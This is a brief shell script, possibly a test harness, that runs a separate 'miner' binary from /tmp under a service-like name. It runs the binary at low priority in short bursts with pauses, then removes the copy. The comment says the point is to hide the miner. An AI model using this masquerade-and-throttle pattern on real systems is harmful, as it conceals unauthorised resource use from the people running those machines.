#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# A miner that hides: under a service's name, five reports at a time, with rests.
#
#	spells.sh NAME PORT SPELLS
cp "$(dirname "$0")/miner" "/tmp/$1"
for _ in $(seq "$3"); do
	nice "/tmp/$1" "$2" 5
	sleep 1.5
done
rm "/tmp/$1"
